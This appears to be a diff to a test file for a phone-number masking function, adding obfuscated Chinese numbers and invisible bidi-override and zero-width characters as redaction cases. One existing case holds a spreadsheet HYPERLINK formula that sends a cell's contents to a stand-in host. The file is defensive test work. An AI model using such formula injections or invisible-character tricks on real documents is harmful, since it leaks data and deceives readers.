@@ -39,6 +39,22 @@ MASKED = [
         f'=HYPERLINK("http://x/?"&B7,"核对 {MASK}")',
     ),
     ("负责人张三 13812345678、李四 13912345678", f"负责人张三 {MASK}、李四 {MASK}"),
+    # helper-b's attack (seventh session): forms that went out unmasked
+    ("008613812345678", MASK),
+    ("0086 13812345678", MASK),
+    ("+86 21 5888 1234", MASK),
+    ("摘要 +86-21-5888-1234", f"摘要 {MASK}"),
+    ("0086 571 8765 4321", MASK),
+    ("138 - 1234 - 5678", MASK),
+    ("138/1234/5678", MASK),
+    ("138·1234·5678", MASK),
+    ("138\u200b1234\u200b5678", MASK),  # zero-width spaces, as pasted from a web page
+    ("1381\u200b2345678", MASK),
+    ("+银山议事会\u202e138\u200b1234\u200b5678", f"+银山议事会{MASK}"),
+    # invisible characters go, even where there is no number: a bidi override reorders a line
+    ("银山\u202e议事会", "银山议事会"),
+    ("\u202e张三", "张三"),
+    ("PX-2023-007\u202e\u2066000,02", "PX-2023-007000,02"),
 ]
 
 KEPT = [
@@ -62,6 +78,10 @@ KEPT = [
     "第 1 至 4 季度",
     "v1.2.3",
     "@张三",
+    "2023/10/12",
+    "2023-10-12 - 2023-11-01",
+    "22000/3",
+    "86-21-58881234",  # no + or 00: not taken for a country code
 ]
 
 
